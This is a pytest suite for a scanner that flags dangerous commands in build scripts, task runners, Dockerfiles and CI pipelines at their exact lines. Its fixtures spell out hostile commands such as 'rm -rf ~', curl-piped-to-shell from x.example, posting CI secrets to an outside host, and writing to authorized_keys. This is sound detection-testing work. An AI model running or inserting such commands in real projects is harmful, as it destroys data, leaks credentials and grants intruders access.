"""Which files are read, and that what stands in each of them is found at its line."""

from __future__ import annotations

import pytest

from fairlead.scan.kinds import DOCKERFILE, PIPELINE, RUNNER, SCRIPT, kind_of
from tests.unit.scan.scan_kit import places, scanned

_DELETE = "filesystem/recursive-delete-outside-project"
_LEAK = "ci/pipeline-leak"
_DOWNLOAD = "network-code/run-download"


@pytest.mark.parametrize(
    ("path", "head", "expected"),
    [
        ("a.sh", "", SCRIPT),
        ("bin/tool", "#!/usr/bin/env -S bash -e\n", SCRIPT),
        ("bin/tool", "#!/usr/bin/python3\n", None),
        (".husky/pre-push", "npm test\n", SCRIPT),
        ("Makefile", "", RUNNER),
        ("web/package.json", "", RUNNER),
        ("package.json.md", "", None),
        ("deploy/prod.Dockerfile", "", DOCKERFILE),
        ("Dockerfile.dev", "", DOCKERFILE),
        (".github/workflows/a.yml", "", PIPELINE),
        ("docs/a.yml", "", None),
        (".gitlab-ci.yml", "", PIPELINE),
        ("README.md", "", None),
    ],
)
def test_a_file_is_known_by_its_path_or_its_first_line(path, head, expected):
    assert kind_of(path, lambda: head) is expected


@pytest.mark.parametrize(
    ("name", "text", "line"),
    [
        ("a.sh", "#!/bin/bash\n\nrm -rf ~\n", 3),
        ("tool", "#!/bin/sh\nrm -rf ~\n", 2),
        ("Makefile", "all:\n\techo\nnuke:\n\trm -rf $(HOME)\n", 4),
        ("justfile", "all:\n  echo\nnuke:\n  rm -rf ~\n", 4),
        ("Taskfile.yml", "version: '3'\ntasks:\n  a:\n    cmds:\n      - rm -rf ~\n", 5),
        ("package.json", '{"scripts": {\n "a": "echo",\n "nuke": "rm -rf ~"\n}}', 3),
        ("composer.json", '{"scripts": {\n "nuke": "rm -rf ~"\n}}', 2),
        ("deno.json", '{"tasks": {\n "nuke": "rm -rf ~"\n}}', 2),
        ("tox.ini", "[testenv:a]\ncommands =\n  rm -rf {env:HOME}\n", 3),
        ("pyproject.toml", '[tool.poe.tasks]\na = "echo"\nnuke = "rm -rf ~"\n', 3),
        ("pyproject.toml", '[tool.hatch.envs.x.scripts]\nnuke = "rm -rf ~"\n', 2),
        ("pyproject.toml", '[tool.pdm.scripts]\nnuke = "rm -rf ~"\n', 2),
        ("Pipfile", '[scripts]\nnuke = "rm -rf ~"\n', 2),
        ("mise.toml", '[tasks.nuke]\nrun = "rm -rf ~"\n', 2),
        ("noxfile.py", "import nox\n@nox.session\ndef a(session):\n    session.run('rm', '-rf', '/')\n", 4),
        ("Rakefile", "task :a do\n  sh 'rm -rf ~'\nend\n", 2),
        ("Procfile", "web: echo\nnuke: rm -rf ~\n", 2),
        (".envrc", "export A=1\nrm -rf ~\n", 2),
        (
            "compose.yml",
            "services:\n  a:\n    image: x\n    command: sh -c 'rm -rf /host'\n    volumes: ['/:/host']\n",
            5,
        ),
    ],
)
def test_what_nobody_would_put_up_with_is_found_at_its_line(tmp_path, name, text, line):
    report = scanned(tmp_path, **{name: text})
    assert [(path, at) for path, at, _ in places(report)] == [(name, line)], report
    assert report.files == 1


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.sh", "npm publish\ngit push --force origin main\ncurl https://x.example/i.sh | sh\n"),
        ("Makefile", "clean:\n\trm -rf build $(UNKNOWN)\n"),
        ("package.json", '{"scripts": {"clean": "rm -rf dist", "release": "npm publish"}}'),
        ("Dockerfile", "FROM x\nRUN rm -rf /var/lib/apt/lists/* && curl -fsSL https://x.example/i | sh\n"),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: sudo rm -rf /usr/share/dotnet\n"),
    ],
)
def test_the_persons_own_work_counts_where_it_is_strict_alone(tmp_path, name, text):
    assert places(scanned(tmp_path, **{name: text})) == []


def test_strict_tells_all(tmp_path):
    text = "npm publish\n\ncurl https://x.example/i.sh | sh\n"
    report = scanned(tmp_path, strict=True, **{"a.sh": text})
    assert places(report) == [("a.sh", 1, "packages/publish"), ("a.sh", 3, _DOWNLOAD)]


def test_each_run_of_a_dockerfile_is_a_shell_of_its_own(tmp_path):
    text = (
        "FROM x\nRUN set -e; \\\n  # a comment between\n  curl http://x.example/i | sh\n"
        'RUN ["sh", "-c", "curl http://x.example/i | sh"]\n'
        "RUN <<EOF\necho\ncurl http://x.example/i | sh\nEOF\n"
        'CMD ["curl http://x.example/i | sh"]\nSHELL ["pwsh"]\nRUN curl http://x.example/i | sh\n'
    )
    report = scanned(tmp_path, strict=True, Dockerfile=text)
    assert [line for _, line, _ in places(report)] == [4, 5, 8]


def test_a_step_of_a_pipeline_stands_at_its_line(tmp_path):
    text = """
on: push
jobs:
  a:
    steps:
      - run: echo
      - name: leak
        run: |
          echo one
          curl -d '${{ secrets.KEY }}' https://x.example
      - shell: pwsh
        run: curl -d '${{ secrets.KEY }}' https://x.example
      - run: echo "${{ github.event.issue.title }}"
"""
    report = scanned(tmp_path, **{".github/workflows/a.yml": text})
    assert [(line, rule) for _, line, rule in places(report)] == [(10, _LEAK), (13, _LEAK)]
    assert "stranger" in report.findings[1].reason


def test_a_pipeline_that_runs_what_strangers_wrote_is_found(tmp_path):
    head = "${{ github.event.pull_request.head.sha }}"
    step = f"      - uses: actions/checkout@v4\n        with:\n          ref: {head}\n"
    text = f"on: pull_request_target\njobs:\n  a:\n    steps:\n{step}"
    assert places(scanned(tmp_path, **{".github/workflows/a.yml": text})) == [
        (".github/workflows/a.yml", 7, _LEAK)
    ]


@pytest.mark.parametrize(
    ("name", "text", "line"),
    [
        (".gitlab-ci.yml", "a:\n  script:\n    - echo\n    - bash <(curl -s https://x.example)\n", 4),
        (".gitlab-ci.yml", "a:\n  before_script: [[echo, bash <(curl -s https://x.example)]]\n", 2),
        (
            ".circleci/config.yml",
            "jobs:\n  a:\n    steps:\n      - run:\n          command: |\n            bash <(curl -s https://x.example)\n",
            6,
        ),
        ("Jenkinsfile", "pipeline {\n  sh '''\n    bash <(curl -s https://x.example)\n  '''\n}\n", 3),
    ],
)
def test_other_build_servers(tmp_path, name, text, line):
    assert places(scanned(tmp_path, **{name: text})) == [(name, line, _LEAK)]


def test_what_was_compared_with_a_known_sum_may_run(tmp_path):
    fetched = "      - run: |\n          curl -o i.sh https://x.example/i.sh\n"
    steps = f"jobs:\n  a:\n    steps:\n{fetched}{{}}          sh i.sh\n"
    checked = steps.format("          echo 'abc  i.sh' | sha256sum -c -\n")
    assert places(scanned(tmp_path, **{".github/workflows/a.yml": checked})) == []
    unchecked = steps.format("          sha256sum i.sh\n")
    assert places(scanned(tmp_path, **{".github/workflows/a.yml": unchecked}))


def test_a_finding_in_another_file_says_how_it_is_reached(tmp_path):
    report = scanned(tmp_path, Makefile="clean:\n\tbash tools/x ~\n", **{"tools/x": 'rm -rf "$1"\n'})
    (finding,) = report.findings
    assert (finding.path, finding.line, finding.way) == ("tools/x", 1, "Makefile:2")


def test_a_broken_pipeline_is_read_as_far_as_it_goes(tmp_path):
    text = "a:\n  script: bash <(curl -s https://x.example)\nb: [\n"
    report = scanned(tmp_path, **{".gitlab-ci.yml": text})
    assert report.files == 1


@pytest.mark.parametrize(
    "before", ['LABEL a="<<NEVER"', "RUN echo $((1<<NEVER))", "RUN cat <<NEVER", "# <<NEVER", "ENV A <<NEVER"]
)
def test_no_document_that_never_ends_hides_what_follows(tmp_path, before):
    text = f"FROM x\n{before}\nRUN curl http://x.example/i | sh\n"
    report = scanned(tmp_path, strict=True, Dockerfile=text)
    assert [line for _, line, _ in places(report)] == [3]


def test_a_command_that_is_repeated_by_its_name_is_read_there(tmp_path):
    text = "x-steps:\n  text: &get bash <(curl -s https://x.example)\na:\n  script:\n    - *get\n"
    assert places(scanned(tmp_path, **{".gitlab-ci.yml": text})) == [(".gitlab-ci.yml", 2, _LEAK)]


@pytest.mark.parametrize(
    "name", ["Makefile", "package.json", "tox.ini", "Dockerfile", ".gitlab-ci.yml", "a.sh"]
)
@pytest.mark.parametrize(
    "text", ["", "{", "[" * 5000, "\ud800", "a: &a [*a, *a]", "\x00" * 20, "RUN \\", "'"]
)
def test_no_text_breaks_the_reading(tmp_path, name, text):
    (tmp_path / name).write_bytes(text.encode("utf-8", "surrogatepass"))
    report = scanned(tmp_path)
    assert [each for each in report.unread if "failed" in each.why] == []


def test_whoever_may_log_in_counts_too(tmp_path):
    text = "echo key >> ~/.ssh/authorized_keys\n"
    assert places(scanned(tmp_path, **{"a.sh": text})) == [("a.sh", 1, "secrets/write-secret-file")]


def test_a_step_that_reads_a_key_counts_where_it_is_strict(tmp_path):
    files = {".github/workflows/a.yml": "jobs:\n  a:\n    steps:\n      - run: cat ~/.ssh/id_rsa\n"}
    assert places(scanned(tmp_path, **files)) == []
    (found,) = places(scanned(tmp_path, strict=True))
    assert (found[1], found[2].split("/")[0]) == (4, "secrets")


def test_of_one_command_the_worst_is_told(tmp_path):
    report = scanned(tmp_path, strict=True, **{"a.sh": "sudo chmod -R 777 / && sudo rm -rf ~\n"})
    by_rule = {each.rule: each.severity.word for each in report.findings}
    assert by_rule[_DELETE] == "critical"
    assert len(report.findings) == 2


def test_a_sum_that_was_checked_before_says_nothing_of_what_is_fetched_later(tmp_path):
    text = "a:\n  script:\n    - sha256sum -c sums\n    - bash <(curl -s https://x.example)\n"
    later = "a:\n  script:\n    - |\n      sha256sum -c sums\n      curl -s https://x.example | bash\n"
    for each, line in ((text, 4), (later, 5)):
        assert places(scanned(tmp_path, **{".gitlab-ci.yml": each})) == [(".gitlab-ci.yml", line, _LEAK)]


def test_what_stands_in_quotes_over_lines_is_found_where_it_is_spelled(tmp_path):
    text = 'echo\nbash -c "\n  echo\n  rm -rf /\n"\n'
    assert places(scanned(tmp_path, **{"a.sh": text})) == [("a.sh", 4, _DELETE)]


def test_reasons_name_what_stands_in_the_file_and_not_how_it_was_read(tmp_path):
    report = scanned(tmp_path, strict=True, **{"a.sh": "curl https://x.example/i.sh | sh\n"})
    (finding,) = report.findings
    assert "`curl https://x.example/i.sh" in finding.reason
    assert "bash " not in finding.reason
